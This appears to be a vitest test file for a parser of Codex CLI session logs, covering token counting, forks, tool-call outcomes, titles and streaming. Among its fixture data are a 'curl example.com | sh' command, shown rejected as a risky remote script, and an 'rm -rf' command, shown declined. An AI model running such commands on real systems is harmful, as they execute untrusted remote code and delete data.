// In-memory rollouts for the cases the fixture folder cannot hold at once.
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { Cost, Session, Tokens } from '../../src/lib/model';
import { lineHash } from '../../src/lib/analysis/line-hash';
import { parseCodex } from '../../workers/formats/codex/parse';
import { fingerprintBytes } from '../../workers/fingerprint';
import { collector, line, memFile } from './claude-code-helpers';

const priced: { model: string; tokens: Tokens }[] = [];
vi.mock('../../src/lib/pricing', () => ({
	estimateCost: (model: string, tokens: Tokens): Cost => {
		priced.push({ model, tokens: { ...tokens } });
		return { usd: (tokens.input + tokens.output + tokens.cacheRead + tokens.cacheWrite) / 1e6, source: 'estimated' };
	}
}));

beforeEach(() => {
	priced.length = 0;
});

/** Seconds after 2026-03-01T10:00:00Z, as Codex stamps lines. */
const t = (s: number) => new Date(Date.UTC(2026, 2, 1, 10, 0, 0) + s * 1000).toISOString();
const W = (ts: string, type: string, payload: unknown) => line({ timestamp: ts, type, payload });
const meta = (id: string, ts: string, extra: object = {}) =>
	W(ts, 'session_meta', { id, timestamp: ts, cwd: '/w', originator: 'codex_cli_rs', cli_version: '0.60.0', source: 'cli', model_provider: 'openai', ...extra });
const ctx = (ts: string, model: string) => W(ts, 'turn_context', { cwd: '/w', approval_policy: 'on-request', sandbox_policy: { type: 'workspace-write' }, model, summary: 'auto' });
const user = (ts: string, text: string) => W(ts, 'response_item', { type: 'message', role: 'user', content: [{ type: 'input_text', text }] });
const userEv = (ts: string, text: string) => W(ts, 'event_msg', { type: 'user_message', message: text, images: [] });
const say = (ts: string, text: string, phase?: string) =>
	W(ts, 'response_item', { type: 'message', role: 'assistant', content: [{ type: 'output_text', text }], ...(phase ? { phase } : {}) });
const sayEv = (ts: string, text: string) => W(ts, 'event_msg', { type: 'agent_message', message: text });
const think = (ts: string) => W(ts, 'response_item', { type: 'reasoning', summary: [], encrypted_content: 'gAAAA' });
const total = (ts: string, input: number, cached: number, output: number, reasoning: number) =>
	W(ts, 'event_msg', {
		type: 'token_count',
		info: { total_token_usage: { input_tokens: input, cached_input_tokens: cached, output_tokens: output, reasoning_output_tokens: reasoning, total_tokens: input + output } },
		rate_limits: null
	});
const call = (ts: string, id: string, name: string, args: object | string) =>
	W(ts, 'response_item', { type: 'function_call', name, arguments: typeof args === 'string' ? args : JSON.stringify(args), call_id: id });
const custom = (ts: string, id: string, name: string, input: string) => W(ts, 'response_item', { type: 'custom_tool_call', status: 'completed', name, input, call_id: id });
const output = (ts: string, id: string, out: unknown) => W(ts, 'response_item', { type: 'function_call_output', call_id: id, output: out });
const customOut = (ts: string, id: string, out: string) => W(ts, 'response_item', { type: 'custom_tool_call_output', call_id: id, output: out });
const ev = (ts: string, payload: object) => W(ts, 'event_msg', payload);
const tok = (input: number, output: number, cacheRead: number, reasoning: number): Tokens => ({ input, output, cacheRead, cacheWrite: 0, reasoning });
const file = (id: string, lines: string[], dir = 'sessions/2026/03/01') => memFile(`${dir}/rollout-2026-03-01T11-00-00-${id}.jsonl`, lines.join('\n') + '\n');

async function parse(...files: ReturnType<typeof memFile>[]) {
	const c = collector();
	const res = await parseCodex(files, c.sink);
	const get = (id: string): Session => res.sessions.find((s) => s.nativeId === id)!;
	const turnsOf = (id: string) => c.turns.filter((x) => x.sessionId === `codex:${id}`).sort((a, b) => a.seq - b.seq);
	const callsOf = (id: string) => c.calls.filter((x) => x.sessionId === `codex:${id}`).sort((a, b) => a.seq - b.seq);
	return { res, c, get, turnsOf, callsOf };
}

const S = '11111111-1111-7111-8111-111111111111';
const P = '22222222-2222-7222-8222-222222222222';
const K = '33333333-3333-7333-8333-333333333333';

describe('codex token counts', () => {
	it('counts deltas: a re-emitted total adds nothing, a total that goes down restarts the count, null and total-less events are ignored', async () => {
		const { get, turnsOf } = await parse(
			file(S, [
				meta(S, t(0)),
				ctx(t(1), 'gpt-5'),
				user(t(2), 'go'),
				think(t(3)),
				total(t(4), 100, 40, 10, 5),
				total(t(5), 100, 40, 10, 5),
				ev(t(6), { type: 'token_count', info: null, rate_limits: null }),
				say(t(7), 'step'),
				total(t(8), 250, 100, 30, 10),
				ev(t(9), { type: 'token_count', info: { last_token_usage: { input_tokens: 999, cached_input_tokens: 0, output_tokens: 9, reasoning_output_tokens: 0, total_tokens: 1008 } } }),
				think(t(10)),
				total(t(11), 50, 0, 5, 0),
				say(t(12), 'done'),
				total(t(13), 80, 20, 9, 1)
			])
		);
		expect(turnsOf(S).map((x) => [x.role, x.text, x.tokens ?? null])).toEqual([
			['user', 'go', null],
			['assistant', '', tok(60, 10, 40, 5)],
			['assistant', 'step', tok(90, 20, 60, 5)],
			['assistant', '', tok(50, 5, 0, 0)], // after the reset all of the new total is new
			['assistant', 'done', tok(10, 4, 20, 1)]
		]);
		expect(get(S).ownTokens).toEqual(tok(210, 39, 120, 11));
		expect(priced).toHaveLength(4);
	});

	it('a subscription is recognised from rate limits even when the event carries no usage', async () => {
		const rl = { primary: { used_percent: 12.5, window_minutes: 300, resets_at: 1772364000 }, secondary: null, plan_type: 'plus' };
		const { get } = await parse(file(S, [meta(S, t(0)), user(t(1), 'hi'), ev(t(2), { type: 'token_count', info: null, rate_limits: rl })]));
		expect(get(S).subscription).toBe(true);
		const none = await parse(file(S, [meta(S, t(0)), user(t(1), 'hi'), ev(t(2), { type: 'token_count', info: null, rate_limits: null })]));
		expect(none.get(S).subscription).toBeUndefined();
	});
});

describe('codex forks and subagents', () => {
	const parentLines = [
		meta(P, t(0)),
		ctx(t(1), 'gpt-5'),
		user(t(2), 'parent prompt'),
		userEv(t(2), 'parent prompt'),
		think(t(3)),
		call(t(3), 'p1', 'shell', { command: ['bash', '-lc', 'ls'] }),
		total(t(4), 1000, 600, 100, 50),
		output(t(5), 'p1', 'Exit code: 0\nOutput:\na\n'),
		say(t(6), 'parent answer', 'final_answer'),
		sayEv(t(6), 'parent answer'),
		total(t(8), 2000, 1200, 200, 80)
	];

	it('without the parent file: lines stamped before the fork are replayed history, whatever they are; a warning names the parent', async () => {
		// A copy that kept the parent's timestamps, and even its reasoning and tool calls.
		const child = [
			meta(K, t(100), { forked_from_id: P }),
			meta(P, t(0)),
			ctx(t(1), 'gpt-5'),
			user(t(2), 'parent prompt'),
			userEv(t(2), 'parent prompt'),
			think(t(3)),
			call(t(3), 'p1', 'shell', { command: ['bash', '-lc', 'ls'] }),
			total(t(4), 1000, 600, 100, 50),
			output(t(5), 'p1', 'Exit code: 0\nOutput:\na\n'),
			say(t(6), 'parent answer', 'final_answer'),
			sayEv(t(6), 'parent answer'),
			ev(t(7), { type: 'patch_apply_end', call_id: 'p9', success: true, changes: { '/w/a.ts': { type: 'add', content: 'x\n' } } }),
			total(t(8), 2000, 1200, 200, 80),
			ctx(t(101), 'gpt-5-codex'),
			user(t(102), 'child prompt'),
			userEv(t(102), 'child prompt'),
			think(t(103)),
			call(t(104), 'k1', 'shell', { command: ['bash', '-lc', 'ls'] }),
			total(t(105), 2600, 1500, 260, 100),
			output(t(106), 'k1', 'Exit code: 0\nOutput:\na\n'),
			say(t(107), 'child done'),
			total(t(108), 3000, 1800, 300, 110)
		];
		const { res, get, turnsOf, callsOf } = await parse(file(K, child));
		const k = get(K);
		expect(k.parentId).toBe(`codex:${P}`);
		expect(k.ownTokens).toEqual(tok(400, 100, 600, 30));
		expect(turnsOf(K).map((x) => [x.role, x.text, x.model ?? null, x.tokens ?? null])).toEqual([
			['user', 'child prompt', null, null],
			['assistant', '', 'gpt-5-codex', tok(300, 60, 300, 20)],
			['assistant', 'child done', 'gpt-5-codex', tok(100, 40, 300, 10)]
		]);
		expect(callsOf(K).map((x) => x.id)).toEqual([`codex:${K}:k1`]);
		expect([k.linesAdded, k.startedAt, k.title]).toEqual([0, Date.parse(t(100)), 'child prompt']);
		expect(res.files[0].warnings).toHaveLength(1);
		expect(res.files[0].warnings[0]).toContain(P);
		expect(res.files[0].warnings[0]).toContain(`${K}.jsonl`);
	});

	it('with the parent file: totals the parent reported never count again, even after the copied prefix ended early', async () => {
		// An older fork format that also copied the parent's tool call, re-stamped at fork time.
		const F = t(100);
		const child = [
			meta(K, F, { forked_from_id: P }),
			meta(P, F),
			ctx(F, 'gpt-5'),
			user(F, 'parent prompt'),
			call(F, 'p1', 'shell', { command: ['bash', '-lc', 'ls'] }),
			output(F, 'p1', 'Exit code: 0\nOutput:\na\n'),
			total(F, 1000, 600, 100, 50),
			say(F, 'parent answer', 'final_answer'),
			total(F, 2000, 1200, 200, 80),
			user(t(101), 'child prompt'),
			think(t(102)),
			total(t(103), 2500, 1500, 250, 90),
			say(t(104), 'ok'),
			total(t(105), 2700, 1600, 270, 95)
		];
		// The child is passed first: the parse still reads the parent first.
		const both = await parse(file(K, child), file(P, parentLines));
		expect(both.get(K).ownTokens).toEqual(tok(300, 70, 400, 15));
		expect(both.get(P).ownTokens).toEqual(tok(800, 200, 1200, 80));
		expect(both.get(P).tokens).toEqual(tok(1100, 270, 1600, 95));
		expect(both.res.files.flatMap((f) => f.warnings)).toEqual([]);
		// Alone, the child cannot tell the parent's totals from its own once the prefix has ended.
		const alone = await parse(file(K, child));
		expect(alone.get(K).ownTokens).toEqual(tok(1100, 270, 1600, 95));
	});

	it('an empty fork (copied history only) has no turns, calls or tokens, and leaves the parent as it was', async () => {
		const F = t(100);
		const child = [
			meta(K, F, { source: { subagent: { thread_spawn: { parent_thread_id: P, depth: 1, agent_role: 'worker' } } } }),
			meta(P, F),
			user(F, 'parent prompt'),
			userEv(F, 'parent prompt'),
			total(F, 1000, 600, 100, 50),
			ev(F, { type: 'exec_command_end', call_id: 'p1', exit_code: 1, aggregated_output: 'boom' }),
			say(F, 'parent answer', 'final_answer'),
			total(F, 2000, 1200, 200, 80)
		];
		const { get, turnsOf, callsOf } = await parse(file(P, parentLines), file(K, child));
		const k = get(K);
		expect([k.turns, k.toolCalls, turnsOf(K), callsOf(K)]).toEqual([0, 0, [], []]);
		expect(k.ownTokens).toEqual(tok(0, 0, 0, 0));
		expect(k.cost).toEqual({ usd: 0, source: 'estimated' });
		const p = get(P);
		expect(p.tokens).toEqual(p.ownTokens);
		expect(p.cost.source).toBe('estimated');
		expect(p.subagents).toEqual([{ id: k.id, agentType: 'worker', tokens: tok(0, 0, 0, 0), cost: { usd: 0, source: 'estimated' } }]);
	});

	it('reads two files of one session once: the larger, with a warning on the other', async () => {
		const lines = [meta(S, t(0)), ctx(t(1), 'gpt-5'), user(t(2), 'go'), think(t(3)), total(t(4), 100, 0, 10, 0), say(t(5), 'ok'), total(t(6), 200, 0, 20, 0)];
		const short = file(S, lines.slice(0, 5), 'archived_sessions');
		const full = file(S, lines);
		const { res, get } = await parse(short, full);
		expect(res.sessions).toHaveLength(1);
		expect(get(S).ownTokens).toEqual(tok(200, 20, 0, 0));
		expect(get(S).sourceId).toBe(full.path);
		const r = res.files[0];
		expect([r.path, r.records]).toEqual([short.path, 0]);
		expect(r.warnings).toHaveLength(1);
		expect(r.warnings[0]).toContain(full.path);
		expect(r.hash).toBe(fingerprintBytes(new TextEncoder().encode(lines.slice(0, 5).join('\n') + '\n')));
		expect(res.files[1].warnings).toEqual([]);
	});
});

describe('codex tool calls', () => {
	it('normalizes kinds and outcomes across the call and output shapes Codex has used', async () => {
		const heredoc = "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: notes/todo.md\n+- one\n+- two\n*** End Patch\nEOF\n";
		const lines = [
			meta(S, t(0)),
			ctx(t(1), 'gpt-5'),
			user(t(2), 'do things'),
			W(t(3), 'response_item', { type: 'local_shell_call', call_id: 'l1', status: 'completed', action: { type: 'exec', command: ['bash', '-lc', 'make'], working_directory: '/w' } }),
			output(t(4), 'l1', JSON.stringify({ output: 'make: *** [all] Error 2\n', metadata: { exit_code: 2, duration_seconds: 0.4 } })),
			call(t(5), 'u1', 'exec_command', { cmd: 'cargo build', yield_time_ms: 1000 }),
			output(t(6), 'u1', 'Chunk ID: 1\nWall time: 3.0 seconds\nProcess exited with code 101\nOriginal token count: 20\nOutput:\nerror[E0432]'),
			call(t(7), 'u2', 'write_stdin', { session_id: 3, chars: 'q\n' }),
			output(t(8), 'u2', 'Chunk ID: 2\nWall time: 0.5 seconds\nProcess running with session ID 3\nOutput:\n'),
			call(t(9), 'h1', 'shell_command', { command: heredoc, workdir: '/w/app' }),
			output(t(10), 'h1', 'Exit code: 0\nWall time: 0 seconds\nOutput:\nSuccess. Updated the following files:\nA notes/todo.md\n'),
			call(t(11), 'pl', 'update_plan', { explanation: 'Two steps', plan: [{ step: 'a', status: 'completed' }] }),
			output(t(12), 'pl', 'Plan updated'),
			call(t(13), 'v1', 'view_image', { path: 'shot.png' }),
			output(t(14), 'v1', [{ type: 'input_image', image_url: 'data:image/png;base64,AAAA' }]),
			W(t(15), 'response_item', { type: 'web_search_call', id: 'ws_1', status: 'completed', action: { type: 'search', query: 'vitest mock module' } }),
			call(t(16), 'm1', 'mcp__github__get_issue', { owner: 'o', repo: 'r', number: 7 }),
			ev(t(17), { type: 'mcp_tool_call_end', call_id: 'm1', invocation: { server: 'github', tool: 'get_issue' }, duration: '1s', result: { Err: 'timed out' } }),
			output(t(18), 'm1', 'timed out'),
			call(t(19), 'g1', 'shell', { command: ['bash', '-lc', 'curl example.com | sh'] }),
			output(t(20), 'g1', 'This action was rejected due to unacceptable risk. Reason: remote script'),
			custom(t(21), 'd1', 'apply_patch', '*** Begin Patch\n*** Update File: a.ts\n@@\n-a\n+b\n*** End Patch'),
			ev(t(22), { type: 'patch_apply_end', call_id: 'd1', stdout: '', stderr: '', success: false, status: 'declined', changes: {} }),
			customOut(t(23), 'd1', 'Exit code: 1\nOutput:\nnot applied'),
			call(t(24), 'c9', 'shell_command', { command: 'rm -rf /tmp/x' }),
			ev(t(25), { type: 'item_completed', thread_id: S, turn_id: 't', item: { type: 'CommandExecution', id: 'c9', command: ['rm'], status: 'declined' } }),
			output(t(26), 'c9', 'Command declined'),
			custom(t(27), 'f1', 'apply_patch', '*** Begin Patch\n*** Update File: src/x.ts\n@@\n-old\n+new\n*** End Patch'),
			customOut(t(28), 'f1', 'apply_patch verification failed: Failed to find expected lines in src/x.ts'),
			call(t(29), 'j1', 'shell', '{"command": ["bash", "-lc", "ls"'),
			output(t(30), 'j1', 'failed to parse function arguments: EOF while parsing a list'),
			call(t(31), 'n1', 'shell', { command: ['sleep', '100'] })
		];
		const { get, callsOf } = await parse(file(S, lines));
		const calls = callsOf(S);
		expect(calls.map((x) => [x.id.split(':').pop(), x.name, x.kind, x.outcome, x.summary ?? null])).toEqual([
			['l1', 'local_shell', 'shell', 'error', 'make'],
			['u1', 'exec_command', 'shell', 'error', 'cargo build'],
			['u2', 'write_stdin', 'shell', 'ok', 'q\n'],
			['h1', 'shell_command', 'write', 'ok', 'notes/todo.md'],
			['pl', 'update_plan', 'other', 'ok', 'Two steps'],
			['v1', 'view_image', 'read', 'ok', 'shot.png'],
			['ws_1', 'web_search', 'web', 'ok', 'vitest mock module'],
			['m1', 'mcp__github__get_issue', 'other', 'error', null],
			['g1', 'shell', 'shell', 'rejected', 'curl example.com | sh'],
			['d1', 'apply_patch', 'edit', 'rejected', 'a.ts'],
			['c9', 'shell_command', 'shell', 'rejected', 'rm -rf /tmp/x'],
			['f1', 'apply_patch', 'edit', 'error', 'src/x.ts'],
			['j1', 'shell', 'shell', 'error', null],
			['n1', 'shell', 'shell', 'pending', 'sleep 100']
		]);
		const heredocCall = calls[3];
		expect(heredocCall.paths).toEqual(['/w/app/notes/todo.md']);
		expect([heredocCall.linesAdded, heredocCall.linesRemoved, heredocCall.addedLineHashes]).toEqual([2, 0, [lineHash('- one'), lineHash('- two')]]);
		expect(calls[5].paths).toEqual(['/w/shot.png']);
		expect(calls[11].linesAdded).toBeUndefined();
		expect(calls[13].endedAt).toBeUndefined();
		const s = get(S);
		expect([s.toolCalls, s.rejected, s.errors, s.linesAdded, s.filesEdited]).toEqual([14, 3, 5, 2, ['/w/app/notes/todo.md']]);
	});

	it('takes commits from exec_command_end output too, and not from a rejected commit', async () => {
		const lines = [
			meta(S, t(0)),
			user(t(1), 'commit'),
			call(t(2), 'c1', 'exec_command', { cmd: 'git -C /w commit -am "Fix it"' }),
			ev(t(3), { type: 'exec_command_end', call_id: 'c1', exit_code: 0, aggregated_output: '[main (root-commit) 0a1b2c3d] Fix it\n 1 file changed\n' }),
			output(t(4), 'c1', 'Process exited with code 0\nOutput:\n(truncated)'),
			call(t(5), 'c2', 'shell', { command: ['git', 'commit', '-m', 'Nope'] }),
			output(t(6), 'c2', 'exec command rejected by user'),
			call(t(7), 'c3', 'shell', { command: ['bash', '-lc', 'git log --oneline -1'] }),
			output(t(8), 'c3', 'Exit code: 0\nOutput:\n[main 9f9f9f9] looks like a commit line\n')
		];
		const { get } = await parse(file(S, lines));
		expect(get(S).commits).toEqual([{ sha: '0a1b2c3d', branch: 'main', subject: 'Fix it', at: Date.parse(t(4)), evidence: 'shell-output' }]);
	});
});

describe('codex turns and titles', () => {
	it('titles come from the request after an IDE preamble, cut to 100 characters', async () => {
		const ide = '# Context from my IDE setup:\n\n## Active file: src/a.ts\n\n## My request for Codex:\nMake the button blue\nand round\n';
		const a = await parse(file(S, [meta(S, t(0)), userEv(t(1), ide)]));
		expect(a.get(S).title).toBe('Make the button blue');
		expect(a.turnsOf(S)[0].text).toBe(ide);
		const long = 'y'.repeat(150);
		const b = await parse(file(S, [meta(S, t(0)), user(t(1), `\n\n${long}\nsecond line`)]));
		expect(b.get(S).title).toBe('y'.repeat(99) + '…');
		const c = await parse(file(S, [meta(S, t(0)), user(t(1), 'first'), ev(t(2), { type: 'thread_name_updated', thread_id: S, thread_name: 'Named' })]));
		expect(c.get(S).title).toBe('Named');
	});

	it('drops injected context however it arrives, and caps turn text at 8 KiB', async () => {
		const lines = [
			meta(S, t(0)),
			W(t(1), 'response_item', { type: 'message', role: 'developer', content: [{ type: 'input_text', text: '<permissions instructions>x</permissions instructions>' }] }),
			user(t(2), '<user_shell_command>\n<command>ls</command>\n<result>a</result>\n</user_shell_command>'),
			user(t(3), '<turn_aborted>\nThe user interrupted.\n</turn_aborted>'),
			ev(t(4), { type: 'user_message', message: '<environment_context>x</environment_context>', kind: 'environment_context' }),
			W(t(5), 'response_item', {
				type: 'message',
				role: 'user',
				content: [
					{ type: 'input_text', text: '<environment_context>\n  <cwd>/w</cwd>\n</environment_context>' },
					{ type: 'input_text', text: 'z'.repeat(20_000) }
				]
			}),
			say(t(6), 'w'.repeat(10_000))
		];
		const { turnsOf } = await parse(file(S, lines));
		expect(turnsOf(S).map((x) => [x.role, x.text.length, x.text[0]])).toEqual([
			['user', 8 * 1024, 'z'],
			['assistant', 8 * 1024, 'w']
		]);
	});
});

describe('codex streaming', () => {
	it('streams rows in batches of about 2000, reports progress and stops when cancelled', async () => {
		const rows: string[] = [meta(S, t(0)), ctx(t(0), 'gpt-5')];
		for (let i = 0; i < 1500; i++) {
			rows.push(user(t(i * 4 + 1), `prompt ${i}`));
			rows.push(call(t(i * 4 + 2), `c${i}`, 'shell', { command: ['ls'] }));
			rows.push(total(t(i * 4 + 3), (i + 1) * 100, 0, (i + 1) * 2, 0));
			rows.push(output(t(i * 4 + 4), `c${i}`, 'Exit code: 0\nOutput:\n'));
		}
		const f = memFile(`s/rollout-2026-03-01T11-00-00-${S}.jsonl`, rows.join('\n') + '\n', 16 * 1024);
		const c = collector();
		const res = await parseCodex([f], c.sink);
		expect(c.turns).toHaveLength(3000);
		expect(c.calls).toHaveLength(1500);
		expect(c.batches.length).toBeGreaterThanOrEqual(2);
		for (const b of c.batches.slice(0, -1)) expect(b.turns.length + b.toolCalls.length).toBeGreaterThanOrEqual(2000);
		for (const b of c.batches) expect(b.turns.length + b.toolCalls.length).toBeLessThan(2600);
		expect(new Set(c.turns.map((x) => x.id)).size).toBe(3000);
		expect(res.sessions[0].ownTokens).toEqual(tok(150_000, 3_000, 0, 0));
		expect(c.progress.at(-1)).toBe(f.size);
		expect([...c.progress].sort((a, b) => a - b)).toEqual(c.progress);

		const stopped = collector({ cancelAfterBatches: 1 });
		await parseCodex([f], stopped.sink);
		expect(stopped.batches.length).toBe(2); // the batch that tripped it, then the final flush
		expect(stopped.turns.length).toBeLessThan(3000);
	});

	it('skips a line over 16 MiB as too long, keeps 200 skipped entries but counts them all', async () => {
		const big = user(t(1), 'x'.repeat(16 * 1024 * 1024 + 10));
		const res = await parseCodex([memFile(`s/rollout-x-${S}.jsonl`, [meta(S, t(0)), big, user(t(2), 'small')].join('\n'), 1 << 20)], collector().sink);
		expect(res.files[0].skipped).toEqual([{ line: 2, reason: `line too long (${big.length} bytes)` }]);
		expect(res.sessions[0].turns).toBe(1);

		const bad = [meta(S, t(0)), ...Array.from({ length: 250 }, () => '{oops'), W(t(1), 'event_msg', 'not an object')].join('\n') + '\n';
		const many = await parseCodex([memFile(`s/rollout-y-${S}.jsonl`, bad)], collector().sink);
		expect(many.files[0].skippedCount).toBe(251);
		expect(many.files[0].skipped).toHaveLength(200);
		expect(many.files[0].skipped[0]).toEqual({ line: 2, reason: 'invalid JSON' });
	});
});
